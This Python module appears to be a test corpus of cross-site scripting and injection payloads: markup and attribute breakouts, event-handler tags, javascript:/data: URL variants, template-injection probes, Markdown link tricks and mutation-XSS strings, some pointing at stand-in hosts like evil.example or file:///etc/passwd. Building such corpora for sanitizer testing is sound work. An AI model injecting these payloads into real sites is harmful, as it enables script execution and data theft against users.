"""Strings that run where they are taken for markup, an attribute, an address, a template or Markdown."""

from typing import Final

_LEADS: Final = [
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "</style>",
    "`>",
    "]]>",
    "</select></option>",
    "</noscript>",
]
_ELEMENTS: Final = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<form><button formaction=javascript:alert(1)>x", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]  # fmt: skip
_ATTRIBUTES: Final = [
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='", "x onclick=alert(1)",
    '" style="animation:x" onanimationstart="alert(1)', '" x-init="alert(1)', '" x-data="{a: alert(1)}', '" @click="alert(1)', '" :class="alert(1)', '" x-html="1" x-data="',
    '"><b x-init="alert(1)">', "' x-on:load='alert(1)", '" hx-get="//evil.example" hx-trigger="load', '" srcdoc="<script>alert(1)</script>', '" href="javascript:alert(1)',
    '" data-href="javascript:alert(1)', '" accesskey="x" onclick="alert(1)', '" formaction="javascript:alert(1)', "\" onpointerenter=alert(1) '",
]  # fmt: skip
ADDRESSES: Final = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)", "javascript\u0000:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "javascript:%61lert(1)",
    "javascript://example.org/%0aalert(1)", "javascript:/*--></title></style></script><svg onload=alert(1)>", "vbscript:msgbox(1)", "livescript:x", "jar:javascript:x",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,x", "data:,x", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>", "view-source:javascript:x", "feed:javascript:alert(1)", "blob:https://x/1",
    "filesystem:https://x/1", "file:///etc/passwd", "about:blank", "//evil.example", "\\\\evil.example", "http:javascript:alert(1)", "https:data:x", "mhtml:x", "x-javascript:alert(1)",
    "\u2028javascript:alert(1)", "javascript\u200b:alert(1)", "ws://evil.example", "intent://evil#Intent;end",
]  # fmt: skip
_TEMPLATES: Final = [
    "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "{% debug %}", "{% include 'x' %}", "{{ request.user.password }}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>",
    "{0.__class__}", "%(password)s", "[[${7*7}]]", "{{'a'.constructor.prototype.charAt=[].join}}", "{{ x|safe }}", "{% load log %}", "*{7*7}", "@(7*7)",
]  # fmt: skip
_MARKDOWN: Final = [
    "[x](javascript:alert(1))", "[x](JavaScript:alert(1) 'y')", "![x](javascript:alert(1))", '![x](x "onerror=alert(1)")', "<javascript:alert(1)>", "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n[x]", "[x](java&#115;cript:alert(1))", "[x](\x01javascript:alert(1))", '[x](https://e "><img src=x onerror=alert(1)>)', "```html\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`", "| <img src=x onerror=alert(1)> |\n|---|", "> <svg onload=alert(1)>", "# <script>alert(1)</script>", "[<img src=x onerror=alert(1)>](https://e)",
    '[x](https://e"onmouseover="alert(1))', "<a href='javascript:alert(1)'>x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;", "[x](vbscript:x)", "http://e/\"><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>",
]  # fmt: skip
_MUTATIONS: Final = [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>", "<table><td><math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<p id='--!><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><svg/onload=alert(1)>'>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<img src=x:x onerror=alert&lpar;1&rpar;>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cimg src=x onerror=alert(1)\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E", "&#60;script&#62;alert(1)", "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example>", "<link rel=import href=data:,x>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<style>@import 'javascript:alert(1)';</style>",
    "<iframe src=javascript:alert(1)>", "<portal src=x>", "<dialog open oncancel=alert(1)>", "<marquee onstart=alert(1)>", "<isindex action=javascript:alert(1)>", "<template><script>alert(1)</script></template>", "</script><script>alert(1)//",
    "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "`-alert(1)-`", "</script\x0c><svg onload=alert(1)>", "\u2028alert(1)//", "*/alert(1)/*", "<img/src=`x`onerror=alert(1)>", "<b onbeforetoggle=alert(1) popover id=x>",
]  # fmt: skip
SCRIPTS: Final = [
    *(lead + element for element in _ELEMENTS for lead in _LEADS),
    *_ATTRIBUTES,
    *_TEMPLATES,
    *_MARKDOWN,
    *_MUTATIONS,
]
